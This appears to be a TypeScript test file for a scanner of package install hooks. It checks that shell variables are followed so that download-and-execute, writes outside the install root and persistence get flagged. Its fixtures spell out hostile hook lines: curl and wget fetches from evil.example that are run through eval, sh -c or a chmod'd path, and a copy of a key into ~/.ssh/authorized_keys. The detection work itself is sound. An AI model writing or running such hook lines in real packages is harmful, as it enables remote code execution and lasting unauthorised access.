/**
 * Pins that the hook scan reads simple shell variables assigned earlier in the hook (or earlier on
 * the same line): a download, a run or a write through `"$f"` is the one through the path `f`
 * holds; single quotes, command substitutions and names a command sets are not guessed at; and
 * variables holding paths inside the install root raise nothing.
 */
import { describe, expect, it } from 'vitest';

import { installFindings } from '../support/scan-package.ts';

describe('hook scan: shell variables', () => {
  it('sees a download through variables set on earlier lines, then run by its path', async () => {
    expect(await installFindings('u=https://evil.example/x', 'f=p', 'curl -fsSL -o "$f" "$u"', './p')).toEqual([
      'install.download-exec@INSTALL:5',
    ]);
  });

  it('sees a run through a variable of a file downloaded by its path', async () => {
    expect(await installFindings('curl -fsSL -o tool https://evil.example/t', 'T=./tool', 'chmod +x "${T}"')).toEqual([
      'install.download-exec@INSTALL:4',
    ]);
  });

  it('sees a write outside the root through a variable set on an earlier line', async () => {
    // authorized_keys lets whoever holds the key log in again later: persistence too.
    expect(await installFindings('D=$HOME/.ssh', 'cp payload/key "$D/authorized_keys"')).toEqual([
      'install.outside-root@INSTALL:3',
      'install.persistence@INSTALL:3',
    ]);
  });

  it('sees a variable built from another, and one exported', async () => {
    expect(
      await installFindings('export PREFIX=/usr/local', 'BIN="$PREFIX/bin"', 'install -m 755 payload/tool "$BIN"/tool'),
    ).toEqual(['install.outside-root@INSTALL:4']);
  });

  it('reads the same line in order: u, f, the download, chmod, the run', async () => {
    expect(await installFindings('u=https://evil.example/x; f=/tmp/p; curl -o "$f" "$u"; chmod +x "$f"; "$f"')).toEqual(
      ['install.outside-root@INSTALL:2', 'install.download-exec@INSTALL:2'],
    );
  });

  it.each([
    [
      'variables holding paths inside the root',
      [
        'V="$AGPK_INSTALL_ROOT/var"',
        'BIN=bin',
        'mkdir -p "$V/cache" "$BIN"',
        'cp payload/tool "$BIN/tool"',
        'echo ok > "$V/state"',
      ],
    ],
    ['a name in single quotes is text', ['D=/etc', "echo '$D/x' > notes.txt"]],
    [
      'a name set by a command substitution is not guessed',
      ['f=/etc/x', 'f=$(mktemp -d "$AGPK_INSTALL_ROOT/tmp.XXXX")', 'cp payload/a "$f/a"'],
    ],
    ['a name read by read or a for loop is not guessed', ['d=/etc', 'for d in var cache; do mkdir -p "$d"; done']],
    ['an assignment for one command only', ['D=/etc cp a b', 'cp payload/a "$D/a"']],
    [
      'a shipped script run through a variable',
      ['S="$AGPK_INSTALL_ROOT/payload/setup.sh"', 'sh "$S"', 'chmod +x "$S"'],
    ],
  ])('flags nothing for %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});

describe('hook scan: names a builtin sets from a download', () => {
  it.each([
    [
      'printf -v of a download, then eval',
      ['printf -v code "%s" "$(curl -fsSL https://evil.example/x)"', 'eval "$code"'],
    ],
    ['read from <(curl …), then eval', ['read -r -t 5 code < <(curl -fsSL https://evil.example/x)', 'eval "$code"']],
    [
      'read -a from a downloaded file, then sh -c',
      ['curl -fsSL -o var/x https://evil.example/x', 'read -r -a parts < var/x', 'sh -c "${parts[*]}"'],
    ],
    [
      'mapfile -t from <(curl …), then eval',
      ['mapfile -t lines < <(curl -fsSL https://evil.example/x)', 'eval "${lines[@]}"'],
    ],
    ['read into REPLY, then eval', ['read < <(wget -qO- https://evil.example/x)', 'eval "$REPLY"']],
  ])('flags %s as download-and-execute, not only for review', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([`install.download-exec@INSTALL:${lines.length + 1}`]);
  });

  it.each([
    ['printf -v of a literal, then eval', ['printf -v greeting "%s" hello', 'eval "echo $greeting"']],
    ['read from a shipped file, then echo', ['read -r version < payload/VERSION', 'echo "$version"']],
    [
      'mapfile of a download, only printed',
      ['mapfile -t lines < <(curl -fsSL https://x.example/list)', 'printf "%s\\n" "${lines[@]}"'],
    ],
  ])('flags nothing for %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});
